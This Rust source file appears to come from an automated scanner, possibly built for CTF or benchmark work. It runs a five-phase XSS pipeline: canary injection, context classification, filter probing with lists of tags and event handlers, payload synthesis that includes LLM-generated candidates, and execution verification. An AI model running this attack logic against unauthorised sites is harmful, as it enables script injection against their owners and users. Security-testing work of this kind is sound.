//! Five-phase XSS pipeline: parallel canary injection, DOM-context
//! classification, filter inference, constrained payload synthesis, and
//! execution verification.

use async_trait::async_trait;
use futures::future::join_all;
use serde::{Deserialize, Serialize};
use url::Url;

use super::{Agent, AgentCx, AgentError, AgentOutput};
use crate::htmlscan::{self, HtmlPosition, JsPosition};
use crate::http::{HttpEngine, HttpError, RequestSpec, Session, TimedResponse};
use crate::llm::ContextPacket;
use crate::memory::FilterSignature;
use crate::payload::{
    self, mutate, seed_payloads, Admission, CharTransform, FilterModel, PayloadTemplate,
};
use crate::state::{
    AttemptOutcome, ContextKind, Evidence, EvidenceDetail, Finding, InjectionPoint, PointKey,
    ReflectionContext, TraceRequest, VulnClass,
};
use crate::verifier::PageSource;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ReflectionTransform {
    Verbatim,
    HtmlEncoded,
    UrlEncoded,
    PartiallyStripped,
    Other,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Occurrence {
    pub offset: usize,
    /// Surrounding window of +/-120 bytes.
    pub window: String,
    pub transform: ReflectionTransform,
}

/// Where and how one point's canary reappeared.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ReflectionObservation {
    pub point: PointKey,
    pub canary: String,
    pub occurrences: Vec<Occurrence>,
    /// URL of the page holding the reflection (direct response or a
    /// re-fetched render page for stored flows).
    pub page_url: Option<String>,
    /// True when the reflection surfaced on a render page, not the direct
    /// response.
    pub stored: bool,
    /// False when transport errors left the point unmeasured.
    pub measured: bool,
}

impl ReflectionObservation {
    pub fn reflected(&self) -> bool {
        !self.occurrences.is_empty()
    }
}

/// Script execution only exists in HTML documents; responses declaring
/// another content type never become verification pages.
fn html_like(resp: &TimedResponse) -> bool {
    match resp.header("content-type") {
        Some(ct) => ct.contains("html"),
        None => true,
    }
}

fn find_occurrences(body: &str, canary: &str) -> Vec<Occurrence> {
    let mut out = Vec::new();
    let mut start = 0;
    while let Some(idx) = body[start..].find(canary) {
        let offset = start + idx;
        let wstart = offset.saturating_sub(120);
        let wend = (offset + canary.len() + 120).min(body.len());
        out.push(Occurrence {
            offset,
            window: body[wstart..wend].to_string(),
            transform: ReflectionTransform::Verbatim,
        });
        start = offset + canary.len();
    }
    if out.is_empty() && canary.len() >= 6 {
        // A recognizable prefix with the tail missing is a partial strip.
        let prefix = &canary[..6];
        if let Some(offset) = body.find(prefix) {
            let wstart = offset.saturating_sub(120);
            let wend = (offset + 120).min(body.len());
            out.push(Occurrence {
                offset,
                window: body[wstart..wend].to_string(),
                transform: ReflectionTransform::PartiallyStripped,
            });
        }
    }
    out
}

/// Phase 1: distinct, filter-neutral canaries per point, issued
/// concurrently. Canaries carry no HTML-special characters, so this phase
/// measures placement, not filtering.
pub async fn inject_canaries(
    engine: &HttpEngine,
    points: &[InjectionPoint],
    all_points: &[InjectionPoint],
    session: Option<&Session>,
    markers: &mut crate::payload::MarkerGen,
    render_pages: &[Url],
) -> Vec<ReflectionObservation> {
    let canaries: Vec<String> = points.iter().map(|_| markers.next_marker()).collect();
    let futures = points.iter().zip(&canaries).map(|(point, canary)| {
        let siblings: Vec<InjectionPoint> = all_points
            .iter()
            .filter(|p| {
                p.endpoint.url == point.endpoint.url && p.endpoint.method == point.endpoint.method
            })
            .cloned()
            .collect();
        async move {
            engine
                .execute_tagged(point, canary.as_bytes(), &siblings, session, "canary")
                .await
        }
    });
    let responses: Vec<Result<TimedResponse, HttpError>> = join_all(futures).await;

    let mut observations: Vec<ReflectionObservation> = Vec::with_capacity(points.len());
    let mut unresolved: Vec<usize> = Vec::new();
    for ((point, canary), resp) in points.iter().zip(&canaries).zip(responses) {
        match resp {
            Ok(resp) => {
                let body = resp.body_text().into_owned();
                let occurrences =
                    if html_like(&resp) { find_occurrences(&body, canary) } else { Vec::new() };
                let found = !occurrences.is_empty();
                observations.push(ReflectionObservation {
                    point: point.key(),
                    canary: canary.clone(),
                    occurrences,
                    page_url: found.then(|| resp.request.url.clone()),
                    stored: false,
                    measured: true,
                });
                if !found {
                    unresolved.push(observations.len() - 1);
                }
            }
            Err(HttpError::BudgetExhausted) => {
                observations.push(ReflectionObservation {
                    point: point.key(),
                    canary: canary.clone(),
                    occurrences: Vec::new(),
                    page_url: None,
                    stored: false,
                    measured: false,
                });
            }
            Err(err) => {
                tracing::debug!(%err, point = %point.key(), "canary unmeasured");
                observations.push(ReflectionObservation {
                    point: point.key(),
                    canary: canary.clone(),
                    occurrences: Vec::new(),
                    page_url: None,
                    stored: false,
                    measured: false,
                });
            }
        }
    }

    // Stored reflection sweep: fetch each render page once and look for the
    // canaries that never came back directly.
    if !unresolved.is_empty() {
        for page in render_pages {
            let mut spec = RequestSpec::get(page.clone()).phase("canary");
            if let Some(s) = session {
                spec.session = Some(s.clone());
            }
            let Ok(resp) = engine.send(spec).await else { continue };
            if !html_like(&resp) {
                continue;
            }
            let body = resp.body_text().into_owned();
            for idx in &unresolved {
                let obs = &mut observations[*idx];
                if obs.reflected() {
                    continue;
                }
                let occurrences = find_occurrences(&body, &obs.canary);
                if !occurrences.is_empty() {
                    obs.occurrences = occurrences;
                    obs.page_url = Some(page.to_string());
                    obs.stored = true;
                }
            }
        }
    }
    observations
}

/// Phase 2: classify by parsing the reflection position, never by regex over
/// the whole body. Multiple occurrences resolve to the most exploitable
/// context.
pub fn classify_context(observation: &ReflectionObservation, full_body: &str) -> ReflectionContext {
    let mut best: Option<ReflectionContext> = None;
    for occurrence in &observation.occurrences {
        if occurrence.offset >= full_body.len() {
            continue;
        }
        let ctx = classify_at(full_body, occurrence.offset);
        let better = match &best {
            None => true,
            Some(b) => ctx.kind.exploitability_rank() < b.kind.exploitability_rank(),
        };
        if better {
            best = Some(ctx);
        }
    }
    best.unwrap_or_else(|| ReflectionContext::of(ContextKind::NotReflected))
}

fn classify_at(body: &str, offset: usize) -> ReflectionContext {
    match htmlscan::position_at(body, offset) {
        HtmlPosition::Text => ReflectionContext::of(ContextKind::RawHtml),
        HtmlPosition::Comment => ReflectionContext::of(ContextKind::HtmlComment),
        HtmlPosition::RawText { element } => match element.as_str() {
            "script" => {
                // Locate the script body and classify the JS position inside.
                let kind = script_js_kind(body, offset);
                ReflectionContext {
                    kind,
                    enclosing_tag: Some("script".into()),
                    attribute_name: None,
                }
            }
            "style" => ReflectionContext {
                kind: ContextKind::CssContext,
                enclosing_tag: Some(element),
                attribute_name: None,
            },
            // Other raw-text containers fall back to the raw-HTML seed set.
            _ => ReflectionContext {
                kind: ContextKind::RawHtml,
                enclosing_tag: Some(element),
                attribute_name: None,
            },
        },
        HtmlPosition::AttrValue { tag, attr, quote } => {
            let kind = if attr == "style" {
                ContextKind::CssContext
            } else if htmlscan::is_url_attribute(&attr) {
                ContextKind::UrlAttribute
            } else {
                match quote {
                    htmlscan::AttrQuote::Double => ContextKind::AttrDoubleQuoted,
                    htmlscan::AttrQuote::Single => ContextKind::AttrSingleQuoted,
                    htmlscan::AttrQuote::Unquoted | htmlscan::AttrQuote::Empty => {
                        ContextKind::AttrUnquoted
                    }
                }
            };
            ReflectionContext { kind, enclosing_tag: Some(tag), attribute_name: Some(attr) }
        }
        HtmlPosition::TagInternal { tag } => ReflectionContext {
            kind: ContextKind::AttrUnquoted,
            enclosing_tag: Some(tag),
            attribute_name: None,
        },
    }
}

fn script_js_kind(body: &str, offset: usize) -> ContextKind {
    for token in htmlscan::tokenize(body) {
        if let htmlscan::Token::RawText { element, span } = token {
            if element == "script" && span.contains(&offset) {
                let js = &body[span.clone()];
                return match htmlscan::js_position_at(js, offset - span.start) {
                    JsPosition::SingleQuoted => ContextKind::JsStringSingle,
                    JsPosition::DoubleQuoted => ContextKind::JsStringDouble,
                    JsPosition::TemplateLiteral
                    | JsPosition::Code
                    | JsPosition::Comment => ContextKind::JsRaw,
                };
            }
        }
    }
    ContextKind::JsRaw
}

/// Probe alphabet for per-character transformation inference.
pub const PROBE_ALPHABET: [char; 11] =
    ['<', '>', '"', '\'', '/', '=', '(', ')', ';', '`', ' '];
pub const PROBE_TAGS: [&str; 5] = ["script", "img", "svg", "iframe", "body"];
pub const PROBE_HANDLERS: [&str; 4] = ["onerror", "onload", "onclick", "onfocus"];

fn mixed_case(tag: &str) -> String {
    tag.chars()
        .enumerate()
        .map(|(i, c)| if i % 2 == 1 { c.to_ascii_uppercase() } else { c })
        .collect()
}

/// Extract the transformed probe body between the newest `AWEx`/`yAWE` frame
/// markers. The newest frame is the last one in the body, which keeps stored
/// pages (where older probes accumulate) readable.
fn frame_content<'a>(body: &'a str, open: &str, close: &str) -> Option<&'a str> {
    let start = body.rfind(open)? + open.len();
    let rest = &body[start..];
    let end = rest.find(close)?;
    Some(&rest[..end])
}

fn classify_char_fate(c: char, observed: &str) -> CharTransform {
    if observed == c.to_string() {
        return CharTransform::Passed;
    }
    if observed.is_empty() {
        return CharTransform::Stripped;
    }
    let decoded = htmlscan::decode_entities(observed);
    if observed.starts_with('&') && observed.ends_with(';') && decoded == c.to_string() {
        return CharTransform::HtmlEncoded;
    }
    if observed == format!("%{:02X}", c as u32) || observed == format!("%{:02x}", c as u32) {
        return CharTransform::UrlEncoded;
    }
    if observed == format!("\\{c}") {
        return CharTransform::EscapedBackslash;
    }
    CharTransform::Replaced { with: observed.to_string() }
}

/// Phase 3: infer the server-side filtering policy for one reflecting point.
/// One request per alphabet character, tag, and handler; transport failures
/// leave entries absent (unknown), never guessed.
pub async fn probe_filters(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
    observation: &ReflectionObservation,
) -> Result<FilterModel, AgentError> {
    let siblings = cx.siblings(point);
    let session = cx.session.clone();
    let mut model = FilterModel::default();
    let engine = cx.engine;

    async fn fetch_frame(
        engine: &HttpEngine,
        point: &InjectionPoint,
        siblings: &[InjectionPoint],
        session: Option<&Session>,
        observation: &ReflectionObservation,
        value: String,
    ) -> Result<String, HttpError> {
        let resp = engine
            .execute_tagged(point, value.as_bytes(), siblings, session, "filter")
            .await?;
        let mut body = resp.body_text().into_owned();
        // Stored flows surface the probe on the render page.
        if observation.stored && !body.contains("AWEx") && !body.contains("AWEq") {
            if let Some(url) = &observation.page_url {
                if let Ok(page) = Url::parse(url) {
                    let mut spec = RequestSpec::get(page).phase("filter");
                    if let Some(s) = session {
                        spec.session = Some(s.clone());
                    }
                    if let Ok(render) = engine.send(spec).await {
                        body = render.body_text().into_owned();
                    }
                }
            }
        }
        Ok(body)
    }

    for c in PROBE_ALPHABET {
        let value = format!("AWEx{c}yAWE");
        match fetch_frame(engine, point, &siblings, session.as_ref(), observation, value).await {
            Ok(body) => {
                if let Some(observed) = frame_content(&body, "AWEx", "yAWE") {
                    model.char_map.insert(c, classify_char_fate(c, observed));
                }
            }
            Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
            Err(err) => {
                tracing::debug!(%err, %c, "char probe unmeasured");
            }
        }
    }

    let mut saw_case_sensitivity = false;
    for tag in PROBE_TAGS {
        let mixed = mixed_case(tag);
        let value = format!("AWEq<{tag} x=1><{mixed} x=1>wAWE");
        match fetch_frame(engine, point, &siblings, session.as_ref(), observation, value).await {
            Ok(body) => {
                if let Some(observed) = frame_content(&body, "AWEq", "wAWE") {
                    let lower_alive = observed.contains(&format!("<{tag}"));
                    let mixed_alive = observed.contains(&format!("<{mixed}"));
                    if !lower_alive {
                        model.blocked_tags.insert(tag.to_string());
                        if mixed_alive {
                            saw_case_sensitivity = true;
                        }
                    }
                }
            }
            Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
            Err(err) => {
                tracing::debug!(%err, tag, "tag probe unmeasured");
            }
        }
    }
    model.case_sensitive_tag_filter = saw_case_sensitivity;

    for handler in PROBE_HANDLERS {
        let value = format!("AWEq {handler}=1 wAWE");
        match fetch_frame(engine, point, &siblings, session.as_ref(), observation, value).await {
            Ok(body) => {
                if let Some(observed) = frame_content(&body, "AWEq", "wAWE") {
                    if !observed.contains(&format!("{handler}=")) {
                        model.blocked_handlers.insert(handler.to_string());
                    }
                }
            }
            Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
            Err(err) => {
                tracing::debug!(%err, handler, "handler probe unmeasured");
            }
        }
    }

    Ok(model)
}

/// Where a sent payload ended up: the direct response or a render page.
async fn locate_payload(
    cx: &AgentCx<'_>,
    resp: &TimedResponse,
    observation: &ReflectionObservation,
    needle: &str,
) -> (String, String, Vec<TraceRequest>) {
    let direct_body = resp.body_text().into_owned();
    let mut trace = vec![resp.first_request.clone()];
    if resp.first_request != resp.request {
        trace.push(resp.request.clone());
    }
    if direct_body.contains(needle) || !observation.stored {
        return (resp.request.url.clone(), direct_body, trace);
    }
    if let Some(url) = &observation.page_url {
        if let Ok(page) = Url::parse(url) {
            let mut spec = RequestSpec::get(page).phase("exploit");
            if let Some(s) = cx.session.clone() {
                spec.session = Some(s);
            }
            if let Ok(render) = cx.engine.send(spec).await {
                trace.push(render.request.clone());
                return (render.request.url.clone(), render.body_text().into_owned(), trace);
            }
        }
    }
    (resp.request.url.clone(), direct_body, trace)
}

/// Phases 4+5: candidate rounds (memory bypasses, seeds+mutations, admitted
/// LLM candidates), each instantiated with a fresh marker, sent, and passed
/// to the verifier. Stops at the first verified execution, on exhaustion, or
/// at the attempt cap.
pub async fn exploit(
    cx: &mut AgentCx<'_>,
    point: &InjectionPoint,
    context: &ReflectionContext,
    filter: &FilterModel,
    observation: &ReflectionObservation,
) -> Result<Option<Finding>, AgentError> {
    let signature = FilterSignature::of(filter);
    let mut candidates: Vec<PayloadTemplate> = Vec::new();
    let mut seen_templates = std::collections::BTreeSet::new();
    let push = |t: PayloadTemplate, seen: &mut std::collections::BTreeSet<String>,
                    out: &mut Vec<PayloadTemplate>| {
        if seen.insert(t.template.clone()) {
            out.push(t);
        }
    };

    // Round (a): long-term memory bypasses for this sanitization signature.
    for template in cx.long_mem.lookup_bypasses(&signature) {
        let t = PayloadTemplate::from_text(VulnClass::Xss, &template, Some(context.kind));
        if payload::violates(&t, filter).is_none() {
            push(t, &mut seen_templates, &mut candidates);
        }
    }

    // Round (b): deterministic seeds with constraint-driven mutations.
    for seed in seed_payloads(VulnClass::Xss, Some(context)) {
        for mutant in mutate(&seed, filter) {
            push(mutant, &mut seen_templates, &mut candidates);
        }
    }

    // Round (c): admitted LLM candidates, appended after the deterministic
    // set so creativity never preempts the grounded pipeline.
    let mut packet = ContextPacket {
        vuln_class: Some(VulnClass::Xss),
        context: Some(context.kind),
        filter: filter.clone(),
        tech_hints: cx.state.tech.framework_hints.clone(),
        ..Default::default()
    };
    let raw = cx.llm.synthesize_payloads(&packet, cx.config.llm_candidates).await;
    if !raw.is_empty() {
        let tried = seen_templates.clone();
        for admission in payload::admit_llm_candidates(
            &raw,
            VulnClass::Xss,
            filter,
            Some(context.kind),
            &|t| tried.contains(t),
        ) {
            match admission {
                Admission::Admitted(t) => push(t, &mut seen_templates, &mut candidates),
                Admission::Rejected { candidate, reason } => {
                    tracing::debug!(?reason, candidate, "llm candidate rejected");
                }
            }
        }
    }

    let siblings = cx.siblings(point);
    let mut attempts: u32 = 0;
    let mut verifier_down = false;
    for template in candidates {
        if attempts >= cx.config.exploit_attempt_cap || cx.out_of_time() {
            break;
        }
        let marker = cx.markers.next_marker();
        let payload_bytes = template.instantiate(&marker);
        if cx.suppressed(&point.key(), VulnClass::Xss, &payload_bytes) {
            continue;
        }
        attempts += 1;
        let resp = match cx
            .engine
            .execute_tagged(point, &payload_bytes, &siblings, cx.session.as_ref(), "exploit")
            .await
        {
            Ok(r) => r,
            Err(HttpError::BudgetExhausted) => return Err(HttpError::BudgetExhausted.into()),
            Err(err) => {
                tracing::debug!(%err, "exploit request failed");
                continue;
            }
        };
        let (page_url, page_body, trace) = locate_payload(cx, &resp, observation, &marker).await;

        match cx
            .verifier
            .verify_execution(&PageSource { url: page_url, html: page_body.clone() }, &marker)
            .await
        {
            Ok(Some(execution)) => {
                cx.long_mem.record_outcome(&signature, VulnClass::Xss, &template.template, true);
                let flag = cx.flag_in(page_body.as_bytes());
                let finding = Finding {
                    vuln_class: VulnClass::Xss,
                    point: point.key(),
                    payload: payload_bytes.clone(),
                    evidence: Evidence {
                        detail: EvidenceDetail::ExecutionObserved {
                            marker: execution.marker,
                            signal: execution.signal.as_str().to_string(),
                        },
                        request_trace: trace,
                    },
                    solved_flag: flag,
                    elapsed_s: cx.elapsed_s(),
                    tokens_spent: cx.tokens_spent(),
                    exploit_attempts: attempts,
                };
                cx.emit_finding(finding.clone(), page_body.as_bytes());
                return Ok(Some(finding));
            }
            Ok(None) => {
                cx.long_mem.record_outcome(&signature, VulnClass::Xss, &template.template, false);
                let survived = page_body.contains(&marker);
                let outcome = if survived {
                    AttemptOutcome::PartialSignal
                } else {
                    AttemptOutcome::Blocked
                };
                packet.push_failure(
                    &template.template,
                    if survived { "reflected but inert" } else { "marker absent or transformed" },
                );
                cx.register(
                    &point.key(),
                    VulnClass::Xss,
                    &payload_bytes,
                    outcome,
                    page_body.as_bytes(),
                );
            }
            Err(err) => {
                // No speculation: without the verifier these attempts can
                // never become findings.
                verifier_down = true;
                tracing::warn!(%err, "verifier unavailable; downgrading to partial signals");
                cx.register(
                    &point.key(),
                    VulnClass::Xss,
                    &payload_bytes,
                    AttemptOutcome::PartialSignal,
                    page_body.as_bytes(),
                );
            }
        }
    }
    if verifier_down {
        tracing::warn!("xss exploit phase ended without verification backend");
    }
    Ok(None)
}

pub struct XssAgent;

#[async_trait]
impl Agent for XssAgent {
    fn class(&self) -> VulnClass {
        VulnClass::Xss
    }

    async fn run(&self, cx: &mut AgentCx<'_>) -> Result<AgentOutput, AgentError> {
        let mut output = AgentOutput::default();
        let mut contexts = serde_json::Map::new();

        let reflecting: Vec<(InjectionPoint, ReflectionObservation)> = cx
            .observations
            .iter()
            .filter(|o| o.reflected())
            .filter_map(|o| {
                cx.state
                    .surface
                    .iter()
                    .find(|p| p.key() == o.point)
                    .cloned()
                    .map(|p| (p, o.clone()))
            })
            .collect();

        for (point, observation) in reflecting {
            if cx.out_of_time() {
                break;
            }
            // Phase 2 needs the page the canary landed on.
            let Some(page_url) = observation.page_url.clone() else { continue };
            let Ok(url) = Url::parse(&page_url) else { continue };
            let mut spec = RequestSpec::get(url).phase("canary");
            if let Some(s) = cx.session.clone() {
                spec.session = Some(s);
            }
            // Re-inject the canary for reflected flows so the classification
            // page actually carries it; stored pages already do.
            let body = if observation.stored {
                match cx.engine.send(spec).await {
                    Ok(r) => r.body_text().into_owned(),
                    Err(HttpError::BudgetExhausted) => {
                        return Err(HttpError::BudgetExhausted.into())
                    }
                    Err(_) => continue,
                }
            } else {
                let siblings = cx.siblings(&point);
                match cx
                    .engine
                    .execute_tagged(
                        &point,
                        observation.canary.as_bytes(),
                        &siblings,
                        cx.session.as_ref(),
                        "canary",
                    )
                    .await
                {
                    Ok(r) => r.body_text().into_owned(),
                    Err(HttpError::BudgetExhausted) => {
                        return Err(HttpError::BudgetExhausted.into())
                    }
                    Err(_) => continue,
                }
            };
            let refreshed = ReflectionObservation {
                occurrences: find_occurrences(&body, &observation.canary),
                ..observation.clone()
            };
            if !refreshed.reflected() {
                continue;
            }
            let context = classify_context(&refreshed, &body);
            contexts.insert(
                point.key().to_string(),
                serde_json::json!({
                    "kind": context.kind.as_str(),
                    "enclosing_tag": context.enclosing_tag,
                    "attribute_name": context.attribute_name,
                    "stored": refreshed.stored,
                }),
            );
            if context.kind == ContextKind::NotReflected {
                continue;
            }

            let filter = probe_filters(cx, &point, &refreshed).await?;
            cx.short_mem.set_filter_model(&point.key(), filter.clone());

            if exploit(cx, &point, &context, &filter, &refreshed).await?.is_some() {
                output.findings_added += 1;
                if cx.state.solved() {
                    break;
                }
            }
        }

        output.notes = serde_json::json!({ "contexts": contexts });
        Ok(output)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn obs(canary: &str, body: &str) -> ReflectionObservation {
        ReflectionObservation {
            point: PointKey {
                method: crate::state::HttpMethod::Get,
                url: "http://t/echo".into(),
                channel: crate::state::Channel::Query,
                name: "q".into(),
            },
            canary: canary.into(),
            occurrences: find_occurrences(body, canary),
            page_url: Some("http://t/echo".into()),
            stored: false,
            measured: true,
        }
    }

    #[test]
    fn element_content_classifies_raw_html() {
        let body = "<html><body><div>AWE11112222</div></body></html>";
        let o = obs("AWE11112222", body);
        assert_eq!(classify_context(&o, body).kind, ContextKind::RawHtml);
    }

    #[test]
    fn double_quoted_attr_classifies_with_attribute_name() {
        let body = r#"<input value="AWE11112222">"#;
        let o = obs("AWE11112222", body);
        let ctx = classify_context(&o, body);
        assert_eq!(ctx.kind, ContextKind::AttrDoubleQuoted);
        assert_eq!(ctx.attribute_name.as_deref(), Some("value"));
        assert_eq!(ctx.enclosing_tag.as_deref(), Some("input"));
    }

    #[test]
    fn js_single_string_classifies() {
        let body = "<script>var q='AWE11112222';</script>";
        let o = obs("AWE11112222", body);
        assert_eq!(classify_context(&o, body).kind, ContextKind::JsStringSingle);
    }

    #[test]
    fn multiple_occurrences_pick_most_exploitable() {
        let body = r#"<input value="AWE11112222"><div>AWE11112222</div><!--AWE11112222-->"#;
        let o = obs("AWE11112222", body);
        assert_eq!(classify_context(&o, body).kind, ContextKind::RawHtml);
    }

    #[test]
    fn url_attribute_and_comment_contexts() {
        let body = r#"<a href="AWE11112222">x</a>"#;
        let o = obs("AWE11112222", body);
        assert_eq!(classify_context(&o, body).kind, ContextKind::UrlAttribute);

        let body = "<!-- AWE11112222 -->";
        let o = obs("AWE11112222", body);
        assert_eq!(classify_context(&o, body).kind, ContextKind::HtmlComment);
    }

    #[test]
    fn no_occurrence_is_not_reflected() {
        let body = "<p>nothing</p>";
        let o = obs("AWE11112222", body);
        assert!(!o.reflected());
        assert_eq!(classify_context(&o, body).kind, ContextKind::NotReflected);
    }

    #[test]
    fn occurrences_record_offsets_and_windows() {
        let body = format!("{}<i>AWEaaaabbbb</i>{}", "x".repeat(200), "y".repeat(200));
        let occurrences = find_occurrences(&body, "AWEaaaabbbb");
        assert_eq!(occurrences.len(), 1);
        assert_eq!(occurrences[0].offset, 203);
        assert!(occurrences[0].window.len() <= 240 + 11);
        assert_eq!(occurrences[0].transform, ReflectionTransform::Verbatim);
    }

    #[test]
    fn frame_content_reads_newest_frame() {
        let body = "old AWEx<yAWE ... new AWEx&lt;yAWE";
        assert_eq!(frame_content(body, "AWEx", "yAWE"), Some("&lt;"));
    }

    #[test]
    fn char_fate_classification_matches_transforms() {
        assert_eq!(classify_char_fate('<', "<"), CharTransform::Passed);
        assert_eq!(classify_char_fate('<', ""), CharTransform::Stripped);
        assert_eq!(classify_char_fate('<', "&lt;"), CharTransform::HtmlEncoded);
        assert_eq!(classify_char_fate('\'', "&#x27;"), CharTransform::HtmlEncoded);
        assert_eq!(classify_char_fate('\'', "\\'"), CharTransform::EscapedBackslash);
        assert_eq!(classify_char_fate('<', "%3C"), CharTransform::UrlEncoded);
        assert_eq!(
            classify_char_fate('<', "[lt]"),
            CharTransform::Replaced { with: "[lt]".into() }
        );
    }
}
